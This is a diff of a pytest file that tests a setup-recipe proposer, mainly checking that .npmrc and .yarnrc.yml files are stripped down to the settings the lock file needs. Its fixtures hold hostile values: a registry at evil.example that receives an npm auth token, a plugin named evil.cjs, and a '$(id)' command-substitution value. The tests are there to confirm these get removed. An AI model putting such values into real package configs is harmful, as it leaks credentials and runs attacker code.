@@ -1,6 +1,7 @@
 """What is proposed for ecosystems beside Python."""
 
 import json
+import subprocess
 from pathlib import Path
 
 import pytest
@@ -108,26 +109,48 @@ def test_a_client_file_without_a_registry_is_not_worth_a_note(proposed: Proposer
     assert "registry or a key" not in proposed({"package.json": PACKAGE, ".npmrc": said})["text"]
 
 
+NPMRC = """registry=https://evil.example
+//evil.example/:_authToken=${NPM_TOKEN}
+auto-install-peers = false
+public-hoist-pattern[]=*types*
+ cafile=x
+node-linker=hoisted
+"""
+EXTENSIONS = 'packageExtensions:\n  "a@*":\n    dependencies:\n      b: "1"\n'
+YARNRC = f"""npmRegistryServer: https://evil.example
+{EXTENSIONS}
+# of the repository
+"npmRegistryServer": https://evil.example
+plugins:
+  - evil.cjs
+compressionLevel: mixed
+"""
+
+
 @pytest.mark.parametrize(
-    ("key", "level"), [("10", "mixed"), ("10c0", "0"), ("8c9", "9"), ("10cx", None), ("", None)]
-)
-def test_packages_are_compressed_as_the_lock_of_yarn_has_it(
-    proposed: Proposer, key: str, level: str | None
+    ("lock", "form", "name", "text", "left"),
+    [
+        ("package-lock.json", "", ".npmrc", "registry=x\nlegacy-peer-deps=true\n",
+         "legacy-peer-deps=true\n"),
+        ("pnpm-lock.yaml", "lockfileVersion: '9.0'\n", ".npmrc", NPMRC,
+         "auto-install-peers=false\npublic-hoist-pattern[]=*types*\nnode-linker=hoisted\n"),
+        ("pnpm-lock.yaml", "", ".npmrc", "hoist=false\rregistry=x\nhoist=a'$(id)'\nhoist=true\r\n",
+         "hoist=true\n"),
+        ("yarn.lock", "__metadata:\n  version: 8\n", ".yarnrc.yml", "catalog:\rb:\r\n  c: 1\n",
+         "catalog:b:\n  c: 1\n"),
+        ("yarn.lock", "__metadata:\n  version: 8\n", ".yarnrc.yml", YARNRC,
+         f"{EXTENSIONS}\n# of the repository\ncompressionLevel: mixed\n"),
+    ],
+)  # fmt: skip
+def test_of_a_clients_file_only_what_a_lock_depends_on_is_left(
+    proposed: Proposer, tmp_path: Path, *, lock: str, form: str, name: str, text: str, left: str
 ) -> None:
-    lock = f"__metadata:\n  version: 8\n  cacheKey: {key}\n"
-    line = proposed({"package.json": PACKAGE, "yarn.lock": lock})["setup"]["commands"][1]
-    assert line.partition("YARN_NODE_LINKER")[0] == (
-        f"YARN_COMPRESSION_LEVEL={level} " if level else ""
-    )
-
-
-@pytest.mark.parametrize("lock", ["package-lock.json", "README"])
-def test_peers_that_the_repository_takes_loosely_are_taken_so(
-    proposed: Proposer, lock: str
-) -> None:
-    files = {"package.json": PACKAGE, lock: "", ".npmrc": "legacy-peer-deps=true\n"}
-    (line,) = proposed(files)["setup"]["commands"]
-    assert line.endswith(" --legacy-peer-deps")
+    policy = proposed({"package.json": PACKAGE, lock: form, name: text})
+    assert (name in policy["setup"]["inputs"]) == (name == ".yarnrc.yml")
+    (tmp_path / name).write_bytes(text.encode())
+    line = policy["setup"]["commands"][0].replace("/tmp/kept", str(tmp_path / "kept"))
+    subprocess.run(["bash", "-eo", "pipefail", "-c", line], cwd=tmp_path, check=True)
+    assert (tmp_path / name).read_text() == left
 
 
 @pytest.mark.parametrize(
@@ -182,6 +205,18 @@ def test_manifest_decides_image_network_and_verify(
         ("package.json", '{"engines": {"node": ">=18 <99.5"}}', ""),
         ("package.json", '{"engines": {"node": ["99"]}}', ""),
         ("package.json", '{"engines": "99"}', ""),
+        (
+            "pyproject.toml",
+            '[project]\nrequires-python = ">=3.99"\n',
+            "Python 3.99, and the recipe",
+        ),
+        ("pyproject.toml", '[project]\nrequires-python = ">=3.11,<3.99"\n', ""),
+        (
+            "pyproject.toml",
+            '[tool.poetry.dependencies]\npython = "^3.99"\n',
+            "asks for Python 3.99",
+        ),
+        ("setup.cfg", "[options]\npython_requires = ==3.99.*\n", "asks for Python 3.99"),
         ("pom.xml", "<java.version>21</java.version>", "asks for Java 21, and the recipe has 17"),
         ("pom.xml", "<maven.compiler.release>17</maven.compiler.release>", ""),
         ("pom.xml", "<maven.compiler.source>1.8</maven.compiler.source>", ""),
